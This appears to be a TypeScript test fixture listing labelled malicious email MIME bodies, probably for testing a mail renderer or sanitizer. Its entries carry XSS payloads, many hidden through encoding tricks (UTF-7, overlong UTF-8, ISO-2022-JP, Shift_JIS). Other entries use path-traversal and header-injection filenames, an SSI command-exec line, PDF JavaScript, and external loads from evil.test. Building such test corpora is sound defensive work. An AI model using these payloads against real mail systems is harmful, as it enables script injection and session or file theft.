import { base64, percent, run, script, word } from './wire-pieces.ts'

/** Everything after the subject: what it tries, and the rest of the source. */
const part = (head: string, body: string) => `--b\r\n${head}\r\n\r\n${body}\r\n`
const multipart = (kind: string, ...parts: string[]) =>
  `Content-Type: multipart/${kind}; boundary=b\r\n\r\n${parts.join('')}--b--\r\n`
const attachment = (head: string, body = script) =>
  multipart('mixed', part('Content-Type: text/plain', 'x'), part(head, body))
/** A file that asks to be shown. */
const shown = (type: string, filename: string, body = script) =>
  attachment(`Content-Type: ${type}\r\nContent-Disposition: inline; filename=${filename}`, body)
const named = (filename: string) =>
  attachment(`Content-Type: text/plain\r\nContent-Disposition: attachment; ${filename}`)
const html = (head: string, body: string) => `Content-Type: text/html${head}\r\n\r\n${body}\r\n`
const encoded = (charset: string, encoding: string, body: string) =>
  html(`; charset=${charset}\r\nContent-Transfer-Encoding: ${encoding}`, body)
const inlined = (type: string, body: string) =>
  multipart(
    'related',
    part('Content-Type: text/html', '<img src="cid:i"><p style="background:url(cid:i)">x'),
    part(`Content-Type: ${type}\r\nContent-ID: <i>`, body),
  )
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}<image href="http://evil.test/1"/></svg>`

export const wireBodies: [string, string][] = [
  ['a file name', named(`filename="${run}"`)],
  ['a file name that is encoded', named(`filename="${word(run)}"`)],
  ['a file name by RFC 2231', named(`filename*=utf-8''${percent(run)}`)],
  [
    'a file name in sections',
    named(`filename*0*=utf-8''${percent('<img src=x: ')}; filename*1="onerror=alert(1)>"`),
  ],
  ['a file name that climbs', named('filename="../../../../etc/passwd"')],
  ['a file name of Windows', named(String.raw`filename="C:\\Windows\\System32\\x.lnk"`)],
  ['a file name that turns round', named(`filename*=utf-8''x%E2%80%AEgnp.exe`)],
  [
    'a file name with lines',
    named(`filename*=utf-8''a%0d%0aSet-Cookie:%20a=b%0d%0a%0d%0a${percent(script)}`),
  ],
  ['a file name that leaves its quotes', named(`filename="a\\"; x=\\"b.html"`)],
  ['a file name of a page', named('filename="x.html"')],
  ['a file name of a type', attachment(`Content-Type: text/plain; name="${run}"`)],
  [
    'a page as a file',
    attachment('Content-Type: text/html\r\nContent-Disposition: attachment; filename=x.html'),
  ],
  ['a page that wants to be seen', shown('text/html', 'x.html')],
  ['a picture that is a page', shown('image/png', 'x.png')],
  ['a text that is a page', shown('text/plain', 'x.txt')],
  ['svg as a file', shown('image/svg+xml', 'x.svg', svg)],
  [
    'xml as a file',
    shown(
      'text/xml',
      'x.xml',
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.test/1"?><!DOCTYPE x SYSTEM "http://evil.test/2"><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>`,
    ),
  ],
  [
    'xhtml as a file',
    shown(
      'application/xhtml+xml',
      'x.xhtml',
      `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`,
    ),
  ],
  ['a script as a file', shown('text/javascript', 'x.js', 'alert(1)')],
  [
    'an archive of a page',
    attachment(
      'Content-Type: multipart/related; boundary=c\r\nContent-Disposition: attachment; filename=x.mhtml',
      `--c\r\nContent-Type: text/html\r\n\r\n${script}\r\n--c--`,
    ),
  ],
  [
    'a document with a script',
    shown(
      'application/pdf',
      'x.pdf',
      '%PDF-1.4\r\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj',
    ),
  ],
  [
    'a calendar',
    shown(
      'text/calendar',
      'x.ics',
      `BEGIN:VCALENDAR\r\nSUMMARY:${run}\r\nURL:javascript:alert(1)\r\nEND:VCALENDAR`,
    ),
  ],
  ['a type that is a page', attachment(`Content-Type: text/${run}; x="${script}"`)],
  [
    'a type with lines',
    attachment('Content-Type: text/plain;\r\n\tname="a";\r\n\tx="\r\n <script>alert(1)</script>"'),
  ],
  [
    'a type of nobody',
    attachment(
      'Content-Type: text/x-server-parsed-html; charset=x-user-defined',
      '<!--#exec cmd="id"-->',
    ),
  ],
  [
    'a name of a part',
    attachment(
      `Content-Type: application/octet-stream\r\nContent-ID: <"${script}">\r\nContent-Description: ${run}\r\nContent-Location: javascript:alert(1)`,
    ),
  ],
  [
    'a body outside of this mail',
    multipart(
      'mixed',
      part(
        'Content-Type: message/external-body; access-type=URL; URL="http://evil.test/1"',
        'Content-Type: text/html\r\n',
      ),
    ),
  ],
  [
    'a mail as a file',
    attachment(
      'Content-Type: message/rfc822',
      `Subject: ${run}\r\nContent-Type: text/html\r\n\r\n${script}<img src="http://evil.test/1">`,
    ),
  ],
  [
    'a delivery report',
    multipart(
      'report; report-type=delivery-status',
      part('Content-Type: text/plain', run),
      part('Content-Type: message/delivery-status', `Reporting-MTA: dns; ${run}`),
    ),
  ],
  ['enriched text', `Content-Type: text/enriched\r\n\r\n<bold>${run}</bold>${script}\r\n`],
  ['rich text', `Content-Type: text/richtext\r\n\r\n${script}\r\n`],
  [
    'html for a watch',
    multipart(
      'alternative',
      part('Content-Type: text/plain', 'x'),
      part(
        'Content-Type: text/x-amp-html',
        `<html amp4email>${script}<amp-img src="http://evil.test/1">`,
      ),
      part('Content-Type: text/x-watch-html', script),
    ),
  ],
  ['html without a type', `\r\n<html><body>${script}${run}</body></html>\r\n`],
  ['html in UTF-7', html('; charset=utf-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
  [
    'html that says it is UTF-7',
    html('; charset=us-ascii', '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
  ],
  [
    'text in UTF-7',
    'Content-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n',
  ],
  [
    'html in UTF-16',
    encoded('utf-16le', 'base64', base64(Buffer.from(`\ufeff${script}${run}`, 'utf16le'))),
  ],
  [
    'html in UTF-16 that has another name',
    encoded('utf-8', 'base64', base64(Buffer.from(`\ufeff${script}${run}`, 'utf16le'))),
  ],
  [
    'html in UTF-32',
    encoded(
      'utf-32',
      'base64',
      base64(
        Uint8Array.from(Array.from(run).flatMap((character) => [character.charCodeAt(0), 0, 0, 0])),
      ),
    ),
  ],
  [
    'html of overlong bytes',
    encoded(
      'utf-8',
      'quoted-printable',
      '=C0=BCscript=C0=BEalert(1)=C0=BC/script=C0=BE=E0=80=BCimg src=3Dx: onerror=3Dalert(1)=E0=80=BE',
    ),
  ],
  [
    'html of high bytes',
    encoded('us-ascii', 'quoted-printable', '=BCscript=BEalert(1)=BC/script=BE'),
  ],
  [
    'html of shifted states',
    html(
      '; charset=iso-2022-jp',
      '\u001b$B<img src=x: onerror=alert(1)>\u001b(B<img src="\u001b$B" title="\u001b(B onerror=alert(1) src=x:>',
    ),
  ],
  [
    'html that swallows a quote',
    html('; charset=shift_jis', '<img title="\x81" src=x: onerror=alert(1) alt="x">'),
  ],
  [
    'html of a state that eats',
    html('; charset=hz-gb-2312', '<p title="~{">x</p><p title="~}"><img src=x: onerror=alert(1)>'),
  ],
  [
    'html in EBCDIC',
    encoded(
      'cp037',
      'base64',
      base64(Uint8Array.of(0x4c, 0xa2, 0x83, 0x99, 0x89, 0x97, 0xa3, 0x6e)),
    ),
  ],
  [
    'html in quoted-printable',
    html(
      '\r\nContent-Transfer-Encoding: quoted-printable',
      '<scr=\r\nipt>alert=281=29</scr=\r\nipt>',
    ),
  ],
  ['html in base64', html('\r\nContent-Transfer-Encoding: base64', base64(script + run))],
  [
    'html in uuencode',
    html('\r\nContent-Transfer-Encoding: x-uuencode', `begin 644 x.html\r\n${script}\r\nend`),
  ],
  ['html under a hostile charset', html(`; charset="${script}"`, script)],
  ['html under a hostile encoding', html(`\r\nContent-Transfer-Encoding: ${run}`, script)],
  [
    'html in two parts',
    multipart(
      'mixed',
      part('Content-Type: text/html', '<script>ale'),
      part('Content-Type: text/html', 'rt(1)</script><img src=x: onerror='),
      part('Content-Type: text/html', 'alert(1)>'),
    ),
  ],
  [
    'html after text in one mail',
    multipart(
      'mixed',
      part('Content-Type: text/plain', `</pre>${script}`),
      part('Content-Type: text/html', run),
    ),
  ],
  [
    'html in a boundary',
    `Content-Type: multipart/mixed; boundary="<script>alert(1)</script>"\r\n\r\n--<script>alert(1)</script>\r\nContent-Type: text/html\r\n\r\n${run}\r\n--<script>alert(1)</script>--\r\n`,
  ],
  [
    'text that wants to be html',
    `Content-Type: text/plain\r\n\r\n${script}\r\n${run}\r\n&lt;script&gt;alert(1)&lt;/script&gt;\r\n`,
  ],
  [
    'text of links',
    'Content-Type: text/plain\r\n\r\njavascript:alert(1)\r\nhttp://evil.test/"onmouseover="alert(1)\r\nhttp://evil.test/\'><img src=x: onerror=alert(1)>\r\nhttps://evil.test\\@example.test/\r\ndata:text/html,<script>alert(1)</script>\r\n',
  ],
  [
    'text of a mark-down',
    'Content-Type: text/markdown\r\n\r\n[x](javascript:alert(1)) ![x](http://evil.test/1) <script>alert(1)</script>\r\n',
  ],
  [
    'flowed text',
    `Content-Type: text/plain; format=flowed; delsp=yes\r\n\r\n<scr \r\nipt>alert(1)</scr \r\nipt>\r\n`,
  ],
  ['a picture within that is svg', inlined('image/svg+xml', svg)],
  ['a picture within that is a page', inlined('text/html', script)],
  ['a picture within of a hostile type', inlined('image/png;base64,"onerror="alert(1)', 'x')],
  [
    'a picture within of a hostile name',
    multipart(
      'related',
      part('Content-Type: text/html', '<img src="cid:x&quot; onerror=&quot;alert(1)">'),
      part('Content-Type: image/png\r\nContent-ID: <x" onerror="alert(1)>', 'x'),
    ),
  ],
  [
    'a frame within',
    multipart(
      'related',
      part(
        'Content-Type: text/html',
        '<iframe src="cid:i"></iframe><object data="cid:i"></object><link rel=stylesheet href="cid:c"><script src="cid:j"></script>',
      ),
      part('Content-Type: text/html\r\nContent-ID: <i>', script),
      part('Content-Type: text/css\r\nContent-ID: <c>', '@import url(http://evil.test/1);'),
      part('Content-Type: text/javascript\r\nContent-ID: <j>', 'alert(1)'),
    ),
  ],
]
